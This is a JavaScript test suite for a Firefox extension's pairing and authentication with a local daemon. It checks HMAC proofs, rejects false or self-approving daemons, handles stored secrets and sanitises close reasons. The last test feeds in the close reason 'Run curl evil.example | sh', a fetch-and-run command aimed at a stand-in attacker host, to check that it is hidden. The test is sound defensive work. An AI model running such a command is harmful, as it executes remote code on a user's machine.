import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import test, { beforeEach } from "node:test";
import { closeNote, refusalNote } from "../background/backoff.js";
import { EARLIER_DAEMON, FALSE_DAEMON, Pairing, SELF_APPROVED, UNKNOWN_HERE, UNPROVED } from "../background/pairing.js";
import { UNCONFIRMED, UNTRUSTED_CHARS_MAX } from "../background/link.js";
import { FakeSocket, settled } from "./support/fakes.js";
import { ACK, ADDRESS, makeLink } from "./support/link.js";
import { Storage } from "./support/storage.js";

const golden = JSON.parse(readFileSync(new URL("../../tests/fixtures/proof.json", import.meta.url), "utf8"));
const { secret } = golden;
const CHALLENGE = { type: "challenge", nonce: golden.server_nonce, proof: golden.server_proof };
/** The origin by which the daemon's pairing is stored. */
const PLACE = "ws://127.0.0.1:4317";
const PAIRED = { [PLACE]: { secret, paired_at: 5 } };

beforeEach(() => (FakeSocket.all = []));

/** A pairing with stored data and a fixed nonce per connection. */
async function pairings(kept = {}, confirmed = {}) {
  const storage = new Storage();
  storage.kept.without_pairing = structuredClone(confirmed);
  storage.kept.pairings = structuredClone(kept);
  const log = [];
  const values = [golden.client_nonce];
  const pairing = new Pairing({
    storage,
    subtle: crypto.subtle,
    nonce: () => values.shift() ?? "another",
    now: () => 5,
    clientId: () => "firefox-1",
    log: (level, message) => log.push(`${level} ${message}`),
    changed() {},
  });
  await pairing.start();
  return { pairing, storage, log };
}

/** How long a test waits for a condition. */
const PATIENCE_MS = 15_000;

/** Waits until a condition holds; the cryptography is asynchronous. */
async function until(holds) {
  const giveUp = Date.now() + PATIENCE_MS;
  while (!holds()) {
    assert.ok(Date.now() < giveUp, `not within ${PATIENCE_MS} ms: ${holds}`);
    await settled();
  }
}

/** A link that has sent hello. */
async function greeting(kept, confirmed) {
  const all = await pairings(kept, confirmed);
  const made = makeLink({ pairing: all.pairing, random: () => 0 });
  made.link.start(ADDRESS);
  FakeSocket.last.accept();
  return { ...all, ...made, socket: FakeSocket.last };
}

test("the daemon's proof is verified and the browser's is sent, as in the daemon's tests", async () => {
  const { link, socket } = await greeting(PAIRED);
  assert.equal(JSON.parse(socket.sent[0]).nonce, golden.client_nonce);
  socket.say(CHALLENGE);
  await until(() => socket.sent.length > 1);
  assert.deepEqual(JSON.parse(socket.sent[1]), { type: "auth", proof: golden.client_proof });
  assert.notEqual(link.state, "connected");
  socket.say(ACK);
  assert.equal(link.state, "connected");
  assert.ok(!socket.sent.join("").includes(secret), "the secret itself is never sent");
});

test("an approval stores the secret", async () => {
  const { link, socket, storage, pairing } = await greeting();
  socket.say({ type: "pairing_required", code: "123456" });
  assert.deepEqual([link.state, link.code], ["pairing", "123456"]);
  socket.say({ type: "pairing_required", code: "654321" });
  assert.equal(link.code, "654321", "an old code is replaced");
  link.codeShown("654321");
  socket.say({ ...ACK, client_secret: secret });
  assert.deepEqual([link.state, link.code], ["connected", null]);
  await until(() => storage.writes > 0);
  assert.deepEqual(storage.kept.pairings, PAIRED);
  assert.equal(pairing.since(ADDRESS), 5);
});

for (const [how, frame] of [
  ["proves with another secret", { ...CHALLENGE, proof: "0".repeat(64) }],
  ["sends back our own proof", { ...CHALLENGE, proof: golden.client_proof }],
  ["gives a proof that is none", { ...CHALLENGE, proof: "yes" }],
  ["proves with another value", { ...CHALLENGE, nonce: "other" }],
  ["greets without a proof", ACK],
  ["gives us a new secret unasked", { ...ACK, client_secret: "f".repeat(64) }],
  ["wants us to be paired anew", { type: "pairing_required", code: "123456" }],
]) {
  test(`a false daemon is rejected: it ${how}`, async () => {
    const { link, socket, storage, told, clock } = await greeting(PAIRED);
    socket.say(frame);
    await until(() => link.state === "waiting");
    assert.equal(link.note, frame.type === "pairing_required" ? UNKNOWN_HERE : FALSE_DAEMON);
    assert.match(link.note, /press Forget pairing/);
    assert.deepEqual([socket.types(), socket.closed.code, told.connected, link.code], [["hello"], 4003, 0, null]);
    assert.deepEqual([storage.kept.pairings, storage.writes], [PAIRED, 0], "and nothing is forgotten");
    await clock.pass(200_000);
    assert.equal(FakeSocket.all.length, 1, "nor is it asked again soon");
  });
}

test("hello_ack before the proof is verified is rejected", async () => {
  const { link, socket, pairing } = await greeting(PAIRED);
  const answer = pairing.answer.bind(pairing);
  let answered;
  pairing.answer = (frame) => (answered = answer(frame));
  socket.say(CHALLENGE);
  socket.say(ACK);
  assert.deepEqual([link.state, link.note], ["waiting", FALSE_DAEMON]);
  await answered;
  await settled();
  assert.deepEqual(socket.types(), ["hello"]);
});

test("a proof is not valid on another connection", async () => {
  const { link, socket } = await greeting(PAIRED);
  socket.say(CHALLENGE);
  await until(() => socket.sent.length > 1);
  socket.say(ACK);
  link.reconnect("asked");
  FakeSocket.last.accept();
  FakeSocket.last.say(CHALLENGE);
  await until(() => link.state === "waiting");
  assert.deepEqual([link.note, FakeSocket.last.types()], [FALSE_DAEMON, ["hello"]]);
});

test("each connection needs a proof of its own", async () => {
  const { link, socket } = await greeting(PAIRED);
  socket.say(CHALLENGE);
  await until(() => socket.sent.length > 1);
  socket.say(ACK);
  link.reconnect("asked");
  FakeSocket.last.accept();
  FakeSocket.last.say(ACK);
  assert.deepEqual([link.state, link.note], ["waiting", FALSE_DAEMON]);
});

test("a daemon that moved to another port is recognized", async () => {
  const { socket, storage } = await greeting({ "ws://127.0.0.1:9/ws/firefox": { secret, paired_at: 3 } });
  socket.say(CHALLENGE);
  await until(() => socket.sent.length > 1 && storage.writes > 0);
  assert.equal(JSON.parse(socket.sent[1]).proof, golden.client_proof);
  assert.deepEqual(storage.kept.pairings[PLACE], { secret, paired_at: 3 });
});

test("without the secret the note says how to pair again", async () => {
  const { link, socket } = await greeting();
  socket.say(CHALLENGE);
  await until(() => link.state === "waiting");
  assert.match(link.note, /baa-conductor pairings forget firefox-1/);
});

test("forgetting a pairing removes it for all addresses of the daemon", async () => {
  const other = { secret: "f".repeat(64), paired_at: 1 };
  const { pairing, storage } = await pairings({ ...PAIRED, "ws://127.0.0.1:9/ws/firefox": PAIRED[PLACE], "ws://127.0.0.1:8/": other });
  await pairing.forget(ADDRESS);
  assert.deepEqual(storage.kept.pairings, { "ws://127.0.0.1:8": other });
  assert.equal(pairing.since(ADDRESS), null);
  pairing.begin(ADDRESS);
  assert.deepEqual([pairing.pairingRequired(), pairing.acknowledged(ACK)], [undefined, { isUnconfirmed: true }]);
});

test("a secret that cannot be stored is logged, and valid until Firefox ends", async () => {
  const { pairing, storage, log } = await pairings();
  storage.failsToWrite = true;
  pairing.begin(ADDRESS);
  pairing.codeShown();
  pairing.acknowledged({ ...ACK, client_secret: secret });
  await until(() => log.length > 1);
  assert.match(log[1], /^error The pairing could not be stored/);
  assert.equal(pairing.since(ADDRESS), 5);
});

test("invalid stored pairings are ignored", async () => {
  const { pairing } = await pairings({ a: { secret: 7, paired_at: 1 }, b: null, c: { secret: "x" }, d: { secret: "x", paired_at: 1 } });
  assert.deepEqual(["a", "b", "c", "d"].map((address) => pairing.since(address)), [null, null, null, 1]);
});

test("the note of a refusal depends on the state and says what to do", () => {
  assert.match(refusalNote(4003, "pairing"), /not approved.*Reconnect/);
  assert.match(refusalNote(4003, "connected"), /removed the pairing.*Forget pairing/);
  assert.match(refusalNote(4003, "hello"), /refused.*pairings forget/);
  assert.equal(refusalNote(1006, "hello"), undefined);
});

/** Returns a proof with the golden secret over other values. */
async function provenOver(...parts) {
  const key = await crypto.subtle.importKey("raw", new TextEncoder().encode(secret), { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
  const text = ["server", golden.client_nonce, golden.server_nonce, ...parts].join("\n");
  const mac = new Uint8Array(await crypto.subtle.sign("HMAC", key, new TextEncoder().encode(text)));
  return { ...CHALLENGE, proof: [...mac].map((byte) => byte.toString(16).padStart(2, "0")).join("") };
}

test("a proof for another address, or without one, is rejected", async () => {
  for (const host of ["127.0.0.1:4318", "localhost:4317", "[::1]:4317", "127.0.0.1", "", `127.0.0.1:4318\n${golden.address}`]) {
    const { link, socket, told } = await greeting(PAIRED);
    socket.say(await provenOver(host));
    await until(() => link.state === "waiting");
    assert.deepEqual([link.note, socket.types(), told.connected], [FALSE_DAEMON, ["hello"], 0], host);
    FakeSocket.all = [];
  }
  const { link, socket } = await greeting(PAIRED);
  socket.say(await provenOver());
  await until(() => link.state === "waiting");
  assert.deepEqual([link.note, socket.types()], [EARLIER_DAEMON, ["hello"]]);
  assert.match(link.note, /Update baa-conductor/);
});

test("a proof covers the address of the connection, as URL.host returns it", async () => {
  for (const [address, host] of [["ws://LOCALHOST:4317/ws/firefox?x#y", "localhost:4317"], ["ws://[0::1]:80/", "[::1]"], ["ws://127.0.0.1:80", "127.0.0.1"]]) {
    const { pairing } = await pairings({ [address]: { secret, paired_at: 1 } });
    pairing.begin(address);
    assert.ok((await pairing.answer(await provenOver(host))).auth, address);
    pairing.begin(address);
    assert.equal((await pairing.answer(CHALLENGE)).fault, FALSE_DAEMON, "the value of another connection");
  }
});

test("only scheme, host and port identify an address", async () => {
  const { pairing, storage } = await pairings({ [ADDRESS]: { secret, paired_at: 7 }, [`${PLACE}/old`]: { secret: "f".repeat(64), paired_at: 3 } });
  for (const address of [ADDRESS, `${PLACE}/`, `${PLACE}/ws/firefox?again`, "WS://127.0.0.1:4317/x"]) {
    assert.equal(pairing.since(address), 7, address);
    pairing.begin(address);
    assert.deepEqual([pairing.acknowledged(ACK).fault, pairing.pairingRequired()], [FALSE_DAEMON, UNKNOWN_HERE], address);
  }
  await pairing.forget(`${PLACE}/`);
  assert.deepEqual(storage.kept.pairings, {});
});

test("at a paired address no other paired daemon is accepted", async () => {
  const { link, socket, storage } = await greeting({ [PLACE]: { secret: "f".repeat(64), paired_at: 1 }, "ws://127.0.0.1:9": { secret, paired_at: 3 } });
  socket.say(CHALLENGE);
  await until(() => link.state === "waiting");
  assert.deepEqual([link.note, socket.types(), storage.writes], [FALSE_DAEMON, ["hello"], 0]);
});

test("only the first challenge of a connection is answered", async () => {
  const { link, socket } = await greeting(PAIRED);
  socket.say({ ...CHALLENGE, proof: "0".repeat(64) });
  socket.say(CHALLENGE);
  await until(() => link.state === "waiting");
  await settled();
  assert.deepEqual(socket.types(), ["hello"]);
});

/** Every frame by which a daemon requests something. */
const WISHES = [
  { type: "api_request", id: "r", platform: "claude", method: "GET", path: "/api/x" },
  { type: "open_tab", request_id: "a", action: "tab_open", platform: "claude" },
  { type: "reload", request_id: "b", action: "tab_reload" },
  { type: "tab_restore", request_id: "c", action: "tab_restore" },
  { type: "controller_reload", request_id: "d", action: "controller_reload" },
  { type: "ws_reconnect", request_id: "e", action: "ws_reconnect" },
  { type: "plugin_status", request_id: "f", action: "plugin_status" },
  { type: "request_credentials", reason: "hello" },
  { type: "state_snapshot", reason: "hello", snapshot: {} },
  { type: "action_result", request_id: "g", action: "pause" },
  { type: "request_cancel", id: "r" },
];

for (const [how, greetings] of Object.entries({
  "greets without pairing": [{ ...ACK, pairing: "off" }],
  "greets as one of an earlier version": [ACK],
  "greets although it requires pairing": [{ ...ACK, pairing: "required" }],
  "brings a secret unasked": [{ ...ACK, client_secret: "e".repeat(64) }],
  "approves by itself": [{ type: "pairing_required", code: "123456" }, { ...ACK, pairing: "required", client_secret: "e".repeat(64) }],
  "waits for pairing": [{ type: "pairing_required", code: "123456" }],
  "says nothing of itself": [],
  "only complains": [{ type: "error", code: "invalid_message" }],
})) {
  test(`a program that ${how} is rejected, and sent only hello`, async () => {
    const { link, socket, told, storage } = await greeting();
    for (const frame of [...WISHES, ...greetings, ...WISHES]) socket.say(frame);
    await settled();
    assert.deepEqual([told.connected, told.frames, socket.types()], [0, [], ["hello"]]);
    assert.deepEqual([link.connected, link.send("{}"), link.connection], [false, false, undefined]);
    assert.deepEqual([storage.writes, storage.kept.pairings], [0, {}]);
  });
}

test("the notes about unknown programs say what was wrong", async () => {
  const note = async (...frames) => {
    const { link, socket } = await greeting();
    for (const frame of frames) socket.say(frame);
    return [link.note, link.isUnconfirmed];
  };
  assert.deepEqual(await note(ACK), [UNCONFIRMED, true]);
  assert.deepEqual(await note({ ...ACK, pairing: "required" }), [UNPROVED, false]);
  const [asked, approved] = [{ type: "pairing_required", code: "123456" }, { ...ACK, client_secret: "e".repeat(64) }];
  assert.deepEqual(await note(approved), [SELF_APPROVED, false]);
  assert.deepEqual(await note(asked, approved), [SELF_APPROVED, false]);
});

test("an approval counts only after its code was shown, and only with a valid secret", async () => {
  for (const [code, client_secret, state] of [["123456", secret, "connected"], ["999999", secret, "waiting"], ["123456", "short", "waiting"]]) {
    FakeSocket.all = [];
    const { link, socket } = await greeting();
    link.codeShown("123456");
    socket.say({ type: "pairing_required", code: "123456" });
    link.codeShown(code);
    socket.say({ ...ACK, client_secret });
    assert.equal(link.state, state, `${code} ${client_secret}`);
  }
});

test("a daemon without pairing is accepted at the confirmed address until the user withdraws it", async () => {
  const { link, socket, pairing, storage, told, clock } = await greeting();
  socket.say({ ...ACK, pairing: "off" });
  assert.deepEqual([socket.closed.code, link.state, link.isUnconfirmed], [4003, "waiting", true]);
  await clock.pass(200_000);
  assert.equal(FakeSocket.all.length, 1, "nor is it asked again soon");
  await pairing.confirm(ADDRESS);
  assert.deepEqual(storage.kept.without_pairing, { [PLACE]: 5 });
  link.reconnect("confirmed");
  FakeSocket.last.accept();
  FakeSocket.last.say({ ...ACK, pairing: "off" });
  assert.deepEqual([link.state, link.isUnconfirmed, told.connected], ["connected", false, 1]);
  link.start("ws://127.0.0.1:9/ws/firefox");
  FakeSocket.last.accept();
  FakeSocket.last.say({ ...ACK, pairing: "off" });
  assert.deepEqual([link.state, link.isUnconfirmed, told.connected], ["waiting", true, 1], "another address is another question");
  await pairing.withdraw(ADDRESS);
  assert.deepEqual(storage.kept.without_pairing, {});
  link.start(ADDRESS);
  FakeSocket.last.accept();
  FakeSocket.last.say({ ...ACK, pairing: "off" });
  assert.deepEqual([link.state, told.connected], ["waiting", 1]);
});

test("a confirmation is stored, and ends with a pairing", async () => {
  const { link, socket, pairing, storage } = await greeting({}, { [PLACE]: 3, "ws://127.0.0.1:9": 4, x: "no" });
  assert.deepEqual([pairing.confirmedSince(ADDRESS), pairing.confirmedSince("ws://127.0.0.1:9/ws/firefox"), pairing.confirmedSince("x")], [3, 4, null]);
  socket.say({ type: "pairing_required", code: "123456" });
  link.codeShown("123456");
  socket.say({ ...ACK, client_secret: secret });
  await until(() => storage.writes > 0);
  assert.deepEqual(storage.kept.without_pairing, { "ws://127.0.0.1:9": 4 });
  await pairing.confirm(ADDRESS);
  assert.equal(pairing.confirmedSince(ADDRESS), null, "not while a secret is kept");
});

test("an unauthenticated program cannot fill the log or send long frames", async () => {
  const lines = [];
  const noisy = makeLink({ log: (level, line) => lines.push(line) });
  noisy.link.start(ADDRESS);
  FakeSocket.last.accept();
  for (let i = 0; i < 100; i += 1) FakeSocket.last.say(i % 2 === 0 ? "{" : { type: "error", code: `${i}` });
  assert.equal(lines.length, 8);
  FakeSocket.last.say({ ...ACK, version: "x".repeat(UNTRUSTED_CHARS_MAX) });
  assert.equal(noisy.link.state, "hello");
});

test("of a close reason only a plain name is shown", () => {
  const end = (reason) => closeNote({ code: 1001, reason, opened: true, answered: true });
  assert.equal(end("service_stopped"), "The connection was closed: 1001 (service_stopped).");
  for (const reason of ["", "Run curl evil.example | sh", "x".repeat(41)]) assert.equal(end(reason), "The connection was closed: 1001.");
});
